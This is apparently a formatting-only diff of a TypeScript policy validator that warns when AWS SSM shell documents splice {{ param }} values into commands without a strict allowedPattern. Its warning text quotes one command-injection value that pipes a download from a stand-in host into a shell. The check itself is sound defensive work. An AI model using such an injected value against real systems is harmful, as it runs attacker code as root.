@@ -76,12 +76,17 @@ export function documentInjectionProblems(doc: Record<string, unknown>, cfg = DO
             }
             const def = params[ref];
             if (!isObject(def)) continue; // automation variables ({{ global:... }}, step outputs) and undeclared names
-            const problem = strictPatternProblem(typeof def.allowedPattern === "string" ? def.allowedPattern : undefined, cfg.forbiddenCharacters);
+            const problem = strictPatternProblem(
+                typeof def.allowedPattern === "string" ? def.allowedPattern : undefined,
+                cfg.forbiddenCharacters,
+            );
             if (problem === undefined) continue;
             const envVar = def.interpolationType === "ENV_VAR";
             out.push(
                 `${step.where} splices {{ ${ref} }} into shell text and ${problem}` +
-                    (envVar ? ` (interpolationType "ENV_VAR" does not help while the script still says {{ ${ref} }})` : "") +
+                    (envVar
+                        ? ` (interpolationType "ENV_VAR" does not help while the script still says {{ ${ref} }})`
+                        : "") +
                     `: a value such as \`"; curl evil | sh #\` would run as root. ` +
                     `Declare "${ref}" with interpolationType "ENV_VAR" and use "$SSM_${ref}" (quoted) in the script instead of {{ ${ref} }}, ` +
                     `and give it an anchored allowedPattern that cannot match shell metacharacters`,
@@ -93,7 +98,8 @@ export function documentInjectionProblems(doc: Record<string, unknown>, cfg = DO
 
 export const ssmDocumentInjection: ResourceValidationPolicy = {
     name: DOCUMENT_INJECTION.name,
-    description: "Checks whether SSM Command documents (and associations running shell documents) splice {{ param }} into shell text without a strict allowedPattern.",
+    description:
+        "Checks whether SSM Command documents (and associations running shell documents) splice {{ param }} into shell text without a strict allowedPattern.",
     enforcementLevel: "mandatory",
     configSchema: DOCUMENT_INJECTION.schema,
     validateResource: (args: ResourceValidationArgs, reportViolation) => {
@@ -110,7 +116,9 @@ export const ssmDocumentInjection: ResourceValidationPolicy = {
             const docName = str(props.name);
             if (docName === undefined || !cfg.shellDocuments.includes(docName) || !isObject(props.parameters)) return;
             const commands = props.parameters.commands;
-            const text = Array.isArray(commands) ? commands.filter((c) => typeof c === "string").join("\n") : str(commands) ?? "";
+            const text = Array.isArray(commands)
+                ? commands.filter((c) => typeof c === "string").join("\n")
+                : (str(commands) ?? "");
             for (const ref of new Set(references(text))) {
                 reportViolation(
                     `${describe(args)} runs ${docName} with {{ ${ref} }} spliced into its commands: whatever that value holds runs as root. ` +
